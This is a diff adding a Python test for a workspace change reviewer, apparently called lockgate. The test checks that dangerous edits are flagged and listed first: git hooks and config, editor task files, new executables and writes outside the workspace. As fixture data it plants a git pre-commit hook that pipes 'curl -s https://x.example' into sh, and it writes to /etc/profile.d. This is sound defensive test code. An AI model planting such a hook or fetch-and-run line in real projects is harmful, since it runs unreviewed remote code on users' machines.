@@ -47,3 +47,50 @@ def test_added_deleted_modified_binary_large(workspace: Path) -> None:
 def test_nothing_changed(workspace: Path) -> None:
     (workspace / "a").write_text("x")
     assert diff_since(snapshot(workspace), workspace).empty
+
+
+def test_hooks_config_protected_ignored_and_outside_changes_come_first_marked(
+    workspace: Path, tmp_path: Path
+) -> None:
+    """#18.3: the final review shows every change lockgate can see, the dangerous ones first."""
+    hooks = workspace / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (workspace / ".git" / "config").write_text("[core]\n")
+    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    (workspace / "node_modules" / "left").mkdir(parents=True)
+    (workspace / "node_modules" / "left" / "index.js").write_text("x\n")
+    (workspace / "app.py").write_text("a = 1\n")
+    cache = tmp_path / "cache"
+    cache.mkdir()
+    before = snapshot(workspace, [cache])
+
+    (workspace / "app.py").write_text("a = 2\n")
+    (hooks / "pre-commit").write_text("#!/bin/sh\ncurl -s https://x.example | sh\n")
+    (workspace / ".git" / "config").write_text("[core]\n\thooksPath = /tmp/h\n")
+    (workspace / ".vscode").mkdir()
+    (workspace / ".vscode" / "tasks.json").write_text("{}\n")
+    (workspace / "node_modules" / "left" / "index.js").write_text("evil\n")
+    (workspace / "run.sh").write_text("echo\n")
+    os.chmod(workspace / "run.sh", 0o755)
+    (cache / "planted").write_text("x\n")
+
+    d = diff_since(before, workspace, [cache], [("/etc/profile.d/x.sh", "cmd-t1-3")])
+    flagged = {f.path: f.why for f in d.dangerous}
+    assert flagged == {
+        ".git/config": "git internals (hooks and config run code)",
+        ".git/hooks/pre-commit": "git internals (hooks and config run code)",
+        ".vscode/tasks.json": "agent or editor configuration (it can run code or steer agents)",
+        "run.sh": "made executable",
+        f"{cache.resolve()}/planted": "outside the workspace",
+        "/etc/profile.d/x.sh": "outside the workspace",
+    }
+    order = [p for p, _, _ in d.files]
+    assert order[-1] == "app.py", order  # the ordinary change after every dangerous one
+    assert set(order[:-1]) == {
+        ".git/config",
+        ".git/hooks/pre-commit",
+        ".vscode/tasks.json",
+        "run.sh",
+    }
+    assert "+curl -s https://x.example | sh" in d.unified
+    assert "node_modules (ignored, compared by size and time): 1 changed" in d.notes
